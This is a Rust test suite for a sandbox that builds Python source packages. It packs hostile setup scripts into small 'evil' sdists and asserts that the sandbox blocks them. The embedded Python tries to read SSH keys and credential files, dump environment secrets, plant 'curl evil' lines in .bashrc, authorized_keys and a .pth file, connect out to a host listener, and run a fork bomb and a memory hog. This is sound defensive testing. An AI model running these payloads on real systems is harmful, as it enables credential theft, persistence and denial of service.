//! Attack fixtures: tiny hostile sdists built in the real sandbox, each
//! proving that the attack ran, had no effect on the host, and ended the
//! way the report says.

mod common;

use std::path::Path;

use common::{AccessWatch, BuildOpts, CanaryHome, Listener, SECRET, Sdist};

fn out_dir(tmp: &Path) -> std::path::PathBuf {
    let d = tmp.join("out");
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn must_have_wheelhouse() -> bool {
    if common::wheelhouse().is_none() {
        if std::env::var_os(common::REQUIRE_ALL).is_some() {
            panic!("no wheelhouse: run tests/setup/make_wheelhouse.sh (scripts/test does)");
        }
        eprintln!("skipped: no wheelhouse (run scripts/test)");
        return false;
    }
    true
}

#[test]
fn reading_ssh_key_and_secrets_fails_and_canaries_stay_unread() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let home = CanaryHome::new();
    let key = home.path().join(".ssh/id_rsa");
    let attack = format!(
        r#"
for p in [os.path.expanduser('~/.ssh/id_rsa'), {key:?}, {pypirc:?}, {netrc:?}, '/root/.ssh/id_rsa']:
    try:
        with open(p) as f:
            print('ATTACK read', p, 'GOT', f.read()[:80])
    except Exception as e:
        print('ATTACK read', p, 'denied', type(e).__name__)
print('ATTACK env', sorted(os.environ.items()))
try:
    print('ATTACK proc1', open('/proc/1/environ', 'rb').read()[:200])
except Exception as e:
    print('ATTACK proc1 denied', type(e).__name__)
"#,
        key = key.display().to_string(),
        pypirc = home.path().join(".pypirc").display().to_string(),
        netrc = home.path().join(".netrc").display().to_string(),
    );
    let tmp = tempfile::tempdir().unwrap();
    let sdist = Sdist::setuptools_with("evil-read", &attack).write(tmp.path());
    let watch = AccessWatch::new(&[
        &key,
        &home.path().join(".pypirc"),
        &home.path().join(".netrc"),
    ]);
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            home: Some(home.path()),
            env: vec![
                ("AWS_SECRET_ACCESS_KEY".into(), SECRET.into()),
                ("GITHUB_TOKEN".into(), SECRET.into()),
            ],
            ..Default::default()
        },
    );
    assert_eq!(built.status(), "built", "{}", built.describe());
    assert!(
        built.log.contains("ATTACK read"),
        "the attack did not run: {}",
        built.describe()
    );
    assert!(built.log.contains("denied"), "{}", built.log);
    assert!(
        !built.log.contains(SECRET),
        "a secret reached the build:\n{}",
        built.log
    );
    assert!(
        !built.log.contains(" GOT "),
        "a read succeeded:\n{}",
        built.log
    );
    assert_eq!(watch.events(), 0, "a canary was opened or read");
    home.assert_unchanged();
    let report = built.report.unwrap();
    let dropped: Vec<&str> = report["sandbox"]["dropped_env"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert!(dropped.contains(&"AWS_SECRET_ACCESS_KEY"), "{dropped:?}");
    assert!(dropped.contains(&"GITHUB_TOKEN"));
    assert!(
        !report.to_string().contains(SECRET),
        "the report carries a secret value"
    );
}

#[test]
fn writing_outside_the_source_tree_fails_and_nothing_changes() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let home = CanaryHome::new();
    let tmp = tempfile::tempdir().unwrap();
    let out = out_dir(tmp.path());
    let host_tmp_target = tmp.path().join("planted");
    let cache = common::env_cache();
    let site = std::process::Command::new(common::python())
        .args([
            "-c",
            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
        ])
        .output()
        .unwrap();
    let site = String::from_utf8_lossy(&site.stdout).trim().to_string();
    let targets = vec![
        home.path().join(".bashrc").display().to_string(),
        home.path()
            .join(".ssh/authorized_keys")
            .display()
            .to_string(),
        format!("{site}/zz_sdist_box_evil.pth"),
        cache.join("zz-evil").display().to_string(),
        out.join("evil-1.0-py3-none-any.whl").display().to_string(),
        host_tmp_target.display().to_string(),
        "/usr/lib/zz-sdist-box-evil".into(),
        "/etc/zz-sdist-box-evil".into(),
    ];
    let existed: Vec<String> = targets
        .iter()
        .filter(|t| Path::new(t).exists())
        .cloned()
        .collect();
    let attack = format!(
        r#"
for p in {targets:?}:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, 'a') as f:
            f.write('import os; os.system("curl evil")\n')
        print('ATTACK write', p, 'WROTE')
    except Exception as e:
        print('ATTACK write', p, 'denied', type(e).__name__)
try:
    os.chmod('/usr/bin/python3', 0o777)
    print('ATTACK chmod WROTE')
except Exception as e:
    print('ATTACK chmod denied', type(e).__name__)
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('sandbox home is private\n')
with open('/tmp/scratch', 'w') as f:
    f.write('private tmp\n')
open('inside-tree.txt', 'w').write('ok')
print('ATTACK done')
"#
    );
    let sdist = Sdist::setuptools_with("evil-write", &attack).write(tmp.path());
    let built = common::build(
        &sdist,
        &out,
        BuildOpts {
            home: Some(home.path()),
            ..Default::default()
        },
    );
    assert_eq!(built.status(), "built", "{}", built.describe());
    assert!(
        built.log.contains("ATTACK done"),
        "the attack did not run: {}",
        built.describe()
    );
    // Paths under /tmp exist only in the sandbox's private /tmp there, so
    // writing them "succeeds" into a throw-away tmpfs; everything else must
    // be refused outright. Either way the host is untouched (checked below).
    for line in built.log.lines().filter(|l| l.contains("WROTE")) {
        assert!(
            line.starts_with("ATTACK write /tmp/"),
            "a write succeeded: {line}"
        );
    }
    home.assert_unchanged();
    for t in targets.iter().filter(|t| !existed.contains(t)) {
        assert!(!Path::new(t).exists(), "{t} was created");
    }
    let py = std::fs::metadata("/usr/bin/python3").unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert_ne!(py.permissions().mode() & 0o777, 0o777);
}

#[test]
fn connecting_to_a_host_listener_fails_and_it_receives_nothing() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let listener = Listener::start();
    listener.self_check();
    let attack = format!(
        r#"
import socket
for host in ['127.0.0.1', 'localhost', '127.0.0.2']:
    try:
        s = socket.create_connection((host, {port}), timeout=3)
        s.sendall(b'{SECRET}')
        s.close()
        print('ATTACK connect', host, 'CONNECTED')
    except Exception as e:
        print('ATTACK connect', host, 'denied', type(e).__name__, e)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b'{SECRET}', ('127.0.0.1', {port}))
    print('ATTACK udp sent (no one inside listens)')
except Exception as e:
    print('ATTACK udp denied', type(e).__name__)
"#,
        port = listener.port
    );
    let tmp = tempfile::tempdir().unwrap();
    let sdist = Sdist::setuptools_with("evil-connect", &attack).write(tmp.path());
    let built = common::build(&sdist, &out_dir(tmp.path()), BuildOpts::default());
    assert_eq!(built.status(), "built", "{}", built.describe());
    assert!(
        built.log.contains("ATTACK connect"),
        "the attack did not run: {}",
        built.describe()
    );
    assert!(!built.log.contains("CONNECTED"), "{}", built.log);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(listener.connections(), 0, "the host listener was reached");
    assert!(listener.bytes().is_empty());
}

#[test]
fn a_daemonised_process_does_not_outlive_the_build() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let marker = format!("31{}.5", std::process::id());
    let attack = format!(
        r#"
import subprocess
subprocess.Popen(['/bin/sh', '-c', '(sleep {marker} &) ; sleep {marker} &'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', '{marker}'])
    os._exit(0)
import time; time.sleep(0.3)
print('ATTACK daemons started')
"#
    );
    let tmp = tempfile::tempdir().unwrap();
    let sdist = Sdist::setuptools_with("evil-daemon", &attack).write(tmp.path());
    let built = common::build(&sdist, &out_dir(tmp.path()), BuildOpts::default());
    assert_eq!(built.status(), "built", "{}", built.describe());
    assert!(
        built.log.contains("ATTACK daemons started"),
        "{}",
        built.describe()
    );
    std::thread::sleep(std::time::Duration::from_millis(200));
    let ps = std::process::Command::new("pgrep")
        .args(["-f", &format!("sleep {marker}")])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&ps.stdout).trim().is_empty(),
        "processes outlived the build: {}",
        String::from_utf8_lossy(&ps.stdout)
    );
}

fn limits_profile(dir: &Path, limits: &str) -> String {
    let base = std::fs::read_to_string(common::repo().join("profiles/default.toml")).unwrap();
    let head = base.split("[limits]").next().unwrap();
    let p = dir.join("limits.toml");
    std::fs::write(&p, format!("{head}[limits]\n{limits}\n")).unwrap();
    p.display().to_string()
}

/// The host still starts processes and has memory to spare. (Every process
/// of the build died with its pid namespace; `a_daemonised_process_…`
/// proves that with a marker.)
fn host_is_healthy() {
    let ok = std::process::Command::new("/bin/true").status().unwrap();
    assert!(ok.success());
    let meminfo = std::fs::read_to_string("/proc/meminfo").unwrap();
    let avail_kib: u64 = meminfo
        .lines()
        .find(|l| l.starts_with("MemAvailable:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap();
    assert!(
        avail_kib > 512 * 1024,
        "the host is short of memory: {avail_kib} KiB"
    );
}

#[test]
fn a_fork_bomb_ends_the_build_with_a_clear_message() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let profile = limits_profile(tmp.path(), "processes = 48\nwall-seconds = 60\n");
    let attack = "print('ATTACK fork bomb', flush=True)\nwhile True:\n    os.fork()\n";
    let sdist = Sdist::setuptools_with("evil-forkbomb", attack).write(tmp.path());
    let started = std::time::Instant::now();
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            profile: Some(&profile),
            ..Default::default()
        },
    );
    assert!(
        built.log.contains("ATTACK fork bomb"),
        "{}",
        built.describe()
    );
    assert_eq!(built.code(), 3, "{}", built.describe());
    assert_eq!(built.status(), "build-failed");
    let report = built.report.as_ref().unwrap();
    assert_eq!(
        report["outcome"]["limit_hit"],
        "processes",
        "{}",
        built.describe()
    );
    assert!(
        built.stderr().contains("process limit (48"),
        "{}",
        built.stderr()
    );
    assert!(
        started.elapsed().as_secs() < 55,
        "the bomb was not stopped by the process limit"
    );
    host_is_healthy();
}

#[test]
fn a_memory_hog_ends_the_build_with_a_clear_message() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let profile = limits_profile(tmp.path(), "memory = \"1G\"\nwall-seconds = 60\n");
    let attack = "print('ATTACK memory hog', flush=True)\nblocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))\n";
    let sdist = Sdist::setuptools_with("evil-memhog", attack).write(tmp.path());
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            profile: Some(&profile),
            ..Default::default()
        },
    );
    assert!(
        built.log.contains("ATTACK memory hog"),
        "{}",
        built.describe()
    );
    assert_eq!(built.code(), 3, "{}", built.describe());
    let report = built.report.as_ref().unwrap();
    assert_eq!(
        report["outcome"]["limit_hit"],
        "memory",
        "{}",
        built.describe()
    );
    assert!(
        built.stderr().contains("memory limit (1.0 GiB"),
        "{}",
        built.stderr()
    );
    host_is_healthy();
}

#[test]
fn the_wall_clock_limit_kills_a_hanging_build() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let profile = limits_profile(tmp.path(), "wall-seconds = 3\n");
    let attack = "print('ATTACK hang', flush=True)\nimport time\ntime.sleep(600)\n";
    let sdist = Sdist::setuptools_with("evil-hang", attack).write(tmp.path());
    let started = std::time::Instant::now();
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            profile: Some(&profile),
            ..Default::default()
        },
    );
    assert!(started.elapsed().as_secs() < 30);
    assert_eq!(built.code(), 3, "{}", built.describe());
    assert_eq!(
        built.report.as_ref().unwrap()["outcome"]["limit_hit"],
        "wall-clock"
    );
    assert!(
        built.stderr().contains("wall-clock limit of 3 s"),
        "{}",
        built.stderr()
    );
    host_is_healthy();
}

#[test]
fn the_file_size_and_cpu_limits_end_the_build_with_clear_messages() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    if !must_have_wheelhouse() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let profile = limits_profile(tmp.path(), "file-size = \"1M\"\nwall-seconds = 60\n");
    let attack = "print('ATTACK big file', flush=True)\nwith open('/tmp/big', 'wb') as f:\n    f.write(b'x' * (4 << 20))\n";
    let sdist = Sdist::setuptools_with("evil-bigfile", attack).write(tmp.path());
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            profile: Some(&profile),
            ..Default::default()
        },
    );
    assert_eq!(built.code(), 3, "{}", built.describe());
    assert_eq!(
        built.report.as_ref().unwrap()["outcome"]["limit_hit"],
        "file-size",
        "{}",
        built.describe()
    );
    assert!(
        built.stderr().contains("file-size limit"),
        "{}",
        built.stderr()
    );

    let tmp = tempfile::tempdir().unwrap();
    let profile = limits_profile(tmp.path(), "cpu-seconds = 1\nwall-seconds = 60\n");
    let attack = "print('ATTACK spin', flush=True)\nwhile True:\n    pass\n";
    let sdist = Sdist::setuptools_with("evil-spin", attack).write(tmp.path());
    let built = common::build(
        &sdist,
        &out_dir(tmp.path()),
        BuildOpts {
            profile: Some(&profile),
            ..Default::default()
        },
    );
    assert_eq!(built.code(), 3, "{}", built.describe());
    assert_eq!(
        built.report.as_ref().unwrap()["outcome"]["limit_hit"],
        "cpu",
        "{}",
        built.describe()
    );
    assert!(
        built.stderr().contains("CPU-time limit (1 s)"),
        "{}",
        built.stderr()
    );
    host_is_healthy();
}
